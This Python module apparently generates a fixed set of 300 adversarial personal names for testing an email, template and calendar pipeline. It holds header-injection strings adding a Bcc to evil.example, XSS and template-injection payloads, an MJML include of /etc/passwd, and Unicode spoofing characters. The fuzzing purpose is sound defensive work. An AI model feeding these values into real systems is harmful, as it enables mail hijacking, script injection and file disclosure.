"""Three hundred names that were made to break something: headers, HTML, templates, calendars, or the eye.

Each attack is tried alone, after a name, before it and around it; some in pairs. The same
ones every time, so that what one finds can be found again.
"""

from __future__ import annotations

from itertools import product
from random import Random

HOW_MANY = 300
_SEED = 7
_MARK = "pwned"
"""Stands in attacks where their payload would: it may only ever appear as text."""

HEADERS = (
    f"Amara\r\nBcc: {_MARK}@evil.example", f"Amara\nSubject: {_MARK}", f"Amara\rX-{_MARK}: 1",
    f"Amara\r\n\r\n<b>{_MARK}</b>", f"Amara\r\n Bcc: {_MARK}@evil.example", f"Amara\x0bBcc: {_MARK}@evil.example",
    f"Amara\x85Bcc: {_MARK}@evil.example", f"Amara\u2028Bcc: {_MARK}@evil.example", f"Amara\u2029X: {_MARK}",
    f"Amara%0d%0aBcc:{_MARK}@evil.example", f"Amara\\r\\nBcc: {_MARK}@evil.example", f"\r\n--=_boundary\r\n{_MARK}",
    f'" <{_MARK}@evil.example>, "', f"<{_MARK}@evil.example>", f"{_MARK}@evil.example", f'"{_MARK}" <a@evil.example>',
    f"a, {_MARK}@evil.example, b", f"group: {_MARK}@evil.example;", f"({_MARK} comment", 'quote " in', "back \\ slash",
    "trailing \\", ",", ";", ":", "@", "<>", '""', ".", "..", "a.b.", "()", "[]",
)  # fmt: skip
ENCODED_WORDS = (
    "=?utf-8?q?Bcc=3A_pwned=40evil=2Eexample?=", "=?utf-8?q?a=0D=0ABcc:_pwned=40evil.example?=",
    "=?utf-8?b?QmNjOiBwd25lZEBldmlsLmV4YW1wbGU=?=", "=?utf-7?q?+AA0ACg-Bcc:_pwned=40evil.example?=",
    "=?utf-8?q?=22_=3Cpwned=40evil.example=3E=2C_=22?=", "=?us-ascii?q?=00?=", "=?utf-8?q?", "?=", "=?",
    "=?utf-8?b?/w==?=", "=?no-such-charset?q?pwned?=", "= ?utf-8?q?pwned?=", "=?utf-8?q?=3Cscript=3E?= =?utf-8?q?x?=",
    "=?=?utf-8?q?pwned?=?=",
)  # fmt: skip
HTML = (
    "<script>alert('pwned')</script>", '"><img src=x onerror=alert("pwned")>', "</td></tr></table><h1>pwned</h1>",
    "<!--", "-->", "<![CDATA[", "]]>", "</title><script>pwned()</script>", "</style><style>*{display:none}</style>",
    "<a href='javascript:pwned()'>x</a>", "javascript:pwned()", "' onmouseover='pwned()", '" style="display:none',
    "&lt;script&gt;", "&#60;script&#62;", "&amp;lt;", "&", "&&;", "&#0;", "&#x202e;", "<", ">", "< b >", "<br>",
    "<base href=https://evil.example>", "<meta http-equiv=refresh content=0>", "<svg/onload=pwned()>", "<plaintext>",
    "<mj-raw>{{ 7 * 7 }}</mj-raw>", "</mj-text><mj-button href='https://evil.example'>pwned</mj-button>",
    "<mj-include path='/etc/passwd' />", "<!--[if mso]><b>pwned</b><![endif]-->", "https://evil.example/pwned",
    "<?xml version='1.0'?>", "<form action=https://evil.example><button>pwned", "`", "``${pwned}``",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 7 }}", "{% for x in y %}", "{%", "%}", "{{", "}}", "{#", "#}", "{{ config }}", "{% include 'head.mjml' %}",
    "{{ ''.__class__.__mro__ }}", "{first_name}", "{names}", "{", "}", "{0}", "{}", "{place!r:>9999}", "%s", "%(x)s",
    "%n%n", "$x", "${x}", "<%= 7 * 7 %>", "#{7*7}", "{% raw %}", "{% endblock %}", "{{ self }}", "\\N{BULLET}",
)  # fmt: skip
CALENDARS = (
    "Amara\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:pwned", "Amara\\nATTENDEE:mailto:pwned@evil.example",
    "a;b,c:d", "\\;\\,\\n\\\\", "\\n", "\\N", "\\", ";VALUE=URI:https://evil.example", 'X"Y:Z', "^n^'^^",
    "BEGIN:VALARM", "END:VCALENDAR", "a\r\n b", "é" * 74, "🙂" * 40, "x" * 75 + "\r\n " + "y", ":" * 80,
)  # fmt: skip
EYES = (
    "\u202eevil\u202c", "\u2066evil\u2069", "\u202anot closed", "\u200f\u200eAmara", "\u061cAmara", "\u200b",
    "\u200b\u200c\u200d", "\ufeff", "A\u200bm\u200ba\u200br\u200ba", "\u00ad", "\u2060", "\u3164", "\u115f", "\u00a0",
    "\u3000", "\u034f", "\ufe0f", "Z\u0351\u036b\u0343\u036a\u0302a\u0321\u034a\u0320l\u0335\u033eg\u0322o" * 8,
    "e" + "\u0301" * 200, "\u0301", "👩\u200d👩\u200d👧\u200d👦", "🏳\ufe0f\u200d🌈" * 20, "🇬🇧", "👋🏽", "Zoë",
    "Zoe\u0308", "李雷", "Ольга", "أمارة", "אמרה", "ปวีณา", "தமிழ்", "\ufdfa", "\U0001d400mara", "\ue000", "\uffff",
    "\U0010ffff", "\ufffd", "ＡＭＡＲＡ", "Ａｍａｒａ＠ｅｖｉｌ", "İstanbul", "ß", "ŉ", "ﬁona", "O'Brien",
    "D’Arcy", "Anne-Marie", "Núñez y Ñandú", "X Æ A-12", "Nguyễn", "Þórður",
)  # fmt: skip
BYTES = (
    "\x00", "\x00Amara\x00", "\x07\x08\x1b[31mred", "\x7f", "\x80\x9f", "\t", " ", "   Amara   ", "\n", "\r", "\x1a",
    "a" * 61, "a" * 1_000, "a" * 10_000, "🙂" * 2_500, "word " * 2_000, "<" * 10_000, "&" * 10_000, '"' * 10_000,
    "{{" * 5_000, "\r\n" * 5_000, "=?" * 5_000, "-" * 998, ("é" * 500) + "\r\n" + ("é" * 500),
)  # fmt: skip

ATTACKS = (*HEADERS, *ENCODED_WORDS, *HTML, *TEMPLATES, *CALENDARS, *EYES, *BYTES)


def nasty_names() -> tuple[str, ...]:
    """`HOW_MANY` different ones: every attack by itself first, then attacks around names and around each other."""
    names = dict.fromkeys(ATTACKS)
    short = [attack for attack in ATTACKS if len(attack) < 200]
    shapes = [("Amara {}", "{} Amara", "Am{}ara"), short]
    mixed = [shape.replace("{}", attack) for shape, attack in product(*shapes)]
    mixed += [f"{one}{other}" for one, other in product(short, short)]
    Random(_SEED).shuffle(mixed)
    for name in mixed:
        if len(names) == HOW_MANY:
            break
        names[name] = None
    return tuple(names)
